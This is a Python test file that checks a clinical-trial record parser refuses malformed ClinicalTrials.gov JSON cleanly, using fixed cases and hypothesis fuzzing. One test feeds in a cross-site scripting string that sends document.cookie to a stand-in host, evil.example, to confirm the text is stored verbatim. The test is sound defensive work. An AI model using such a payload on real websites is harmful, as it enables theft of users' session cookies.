"""Malformed records: each is refused with its id and a reason naming the field, never a crash.

The fuzz tests feed ``trial_from_ctgov`` arbitrary JSON and real records with one part
replaced by arbitrary JSON: only :class:`InvalidRecord` may escape.
"""

from __future__ import annotations

import copy
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from trialscout.trial import InvalidRecord, Trial, trial_from_ctgov


@pytest.fixture(scope="module")
def base(real_records) -> dict:
    """A real record that has every module the cases below break."""
    return next(
        s for _, s in real_records
        if s["protocolSection"].get("contactsLocationsModule", {}).get("locations")
        and s["protocolSection"].get("armsInterventionsModule", {}).get("interventions")
        and s["protocolSection"].get("designModule", {}).get("phases")
        and s["protocolSection"].get("descriptionModule", {}).get("detailedDescription")
        and s["protocolSection"]["eligibilityModule"].get("minimumAge")
    )


def put(study: dict, path: str, value: Any) -> dict:
    """A copy of ``study`` with ``value`` at the dotted ``path`` (``locations.0.status``)."""
    study = copy.deepcopy(study)
    node: Any = study
    *parents, last = path.split(".")
    for key in parents:
        node = node[int(key)] if isinstance(node, list) else node.setdefault(key, {})
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value
    return study


PS = "protocolSection"
CASES = {
    # wrong types
    "title is a number": (f"{PS}.identificationModule.briefTitle", 42, "briefTitle"),
    "conditions is text": (f"{PS}.conditionsModule.conditions", "Asthma", "conditions"),
    "count is text": (f"{PS}.designModule.enrollmentInfo.count", "100", "count"),
    "negative count": (f"{PS}.designModule.enrollmentInfo.count", -5, "count"),
    "locations is an object": (f"{PS}.contactsLocationsModule.locations", {"city": "Paris"}, "locations"),
    "a site is text": (f"{PS}.contactsLocationsModule.locations.0", "Paris", "locations"),
    "latitude is text": (f"{PS}.contactsLocationsModule.locations.0.geoPoint", {"lat": "north"}, "lat"),
    "hasResults is text": ("hasResults", "yes", "hasResults"),
    "module is a list": (f"{PS}.eligibilityModule", [], "eligibilityModule"),
    "not a date": (f"{PS}.statusModule.startDateStruct.date", "soon", "startDateStruct"),
    "not an age": (f"{PS}.eligibilityModule.minimumAge", "eighteen", "minimumAge"),
    "healthy volunteers is text": (f"{PS}.eligibilityModule.healthyVolunteers", "No", "healthyVolunteers"),
    # unknown enum values
    "unknown status": (f"{PS}.statusModule.overallStatus", "RECRUITNG", "overallStatus"),
    "unknown phase": (f"{PS}.designModule.phases", ["PHASE5"], "phases"),
    "unknown site status": (f"{PS}.contactsLocationsModule.locations.0.status", "OPEN", "status"),
    "unknown sex": (f"{PS}.eligibilityModule.sex", "BOTH", "sex"),
    "unknown intervention type": (f"{PS}.armsInterventionsModule.interventions.0.type", "MAGIC", "type"),
    "unknown masking": (f"{PS}.designModule.designInfo.maskingInfo.masking", "HIDDEN", "masking"),
    # oversized and impossible text
    "5 MB description": (f"{PS}.descriptionModule.detailedDescription", "x" * (5 * 1024 * 1024), "detailedDescription"),
    "a NUL character": (f"{PS}.identificationModule.briefTitle", "A study\x00 of NUL", "briefTitle"),
    "overlong source format": ("trialscoutSource", {"format": "f" * 200}, "format"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_malformed_record_is_refused_with_its_id_and_the_field(base, case):
    path, value, field = CASES[case]
    with pytest.raises(InvalidRecord) as caught:
        trial_from_ctgov(put(base, path, value))
    nct_id = base[PS]["identificationModule"]["nctId"]
    assert caught.value.record_id == nct_id
    assert field in caught.value.reason
    assert str(caught.value).startswith(nct_id)
    assert len(str(caught.value)) < 300  # a reason, not a dump of the record


@pytest.mark.parametrize("study", [
    None, [], "NCT01234567", {}, {"protocolSection": {}}, {"protocolSection": []},
    {"protocolSection": {"identificationModule": {}}},
    {"protocolSection": {"identificationModule": {"nctId": None}}},
    {"protocolSection": {"identificationModule": {"nctId": ["NCT01234567"]}}},
    {"protocolSection": {"identificationModule": {"nctId": "   "}}},
], ids=repr)
def test_a_record_without_identification_is_refused(study):
    with pytest.raises(InvalidRecord) as caught:
        trial_from_ctgov(study)
    assert caught.value.record_id == "?"


@pytest.mark.parametrize("nct_id", ["NCT123", "12345678", "NCT012345678", "nct01234567", "NCT0123456X", "x" * 500])
def test_an_id_that_is_not_an_nct_id_is_refused(nct_id):
    with pytest.raises(InvalidRecord) as caught:
        trial_from_ctgov({"protocolSection": {"identificationModule": {"nctId": nct_id}}})
    assert caught.value.record_id == nct_id[:40]
    assert "NCT" in caught.value.reason


def test_html_and_script_are_kept_as_written(base):
    text = '<script>document.location="https://evil.example/?"+document.cookie</script><img src=x onerror=alert(1)>'
    study = put(put(base, f"{PS}.identificationModule.briefTitle", text),
                f"{PS}.eligibilityModule.eligibilityCriteria", text)
    trial = trial_from_ctgov(study)
    assert trial.brief_title == text
    assert trial.eligibility.criteria == text


def test_text_at_the_registry_limit_is_accepted(base):
    long_text = "word " * 6_400  # the registry's 32,000-character limit for a description
    trial = trial_from_ctgov(put(base, f"{PS}.descriptionModule.detailedDescription", long_text))
    assert trial.detailed_description == long_text.strip()


# --- fuzzing ---------------------------------------------------------------------------------

json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4),
    max_leaves=20,
)


def paths(node: Any, prefix: str = "") -> list[str]:
    """Every dotted path in a JSON value (list items by index)."""
    found = []
    items = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else []
    for key, child in items:
        path = f"{prefix}.{key}" if prefix else str(key)
        found.append(path)
        found += paths(child, path)
    return found


def check(study: Any) -> None:
    try:
        trial = trial_from_ctgov(study)
    except InvalidRecord as exc:
        assert isinstance(exc.record_id, str) and isinstance(exc.reason, str)
        return
    assert isinstance(trial, Trial)


@settings(max_examples=200, deadline=None)
@given(json_values)
def test_fuzz_arbitrary_json(study):
    check(study)


@settings(max_examples=200, deadline=None)
@given(st.dictionaries(st.sampled_from(["protocolSection", "derivedSection", "hasResults", "trialscoutSource"]),
                       json_values))
def test_fuzz_arbitrary_sections(study):
    check(study)


@settings(max_examples=300, deadline=None)
@given(data=st.data())
def test_fuzz_real_records_with_one_part_replaced(fuzz_records, data):
    study, all_paths = data.draw(st.sampled_from(fuzz_records))
    path = data.draw(st.sampled_from(all_paths))
    check(put(study, path, data.draw(json_values)))


@pytest.fixture(scope="module")
def fuzz_records(real_records) -> list[tuple[dict, list[str]]]:
    """A few real records with different shapes, and every path inside each."""
    chosen = {}
    for _, study in real_records:
        shape = frozenset(study[PS]) | {str(study.get("hasResults"))}
        chosen.setdefault(shape, study)
    studies = list(chosen.values())[:12]
    return [(s, [p for p in paths(s) if "resultsSection" not in p][:3000]) for s in studies]
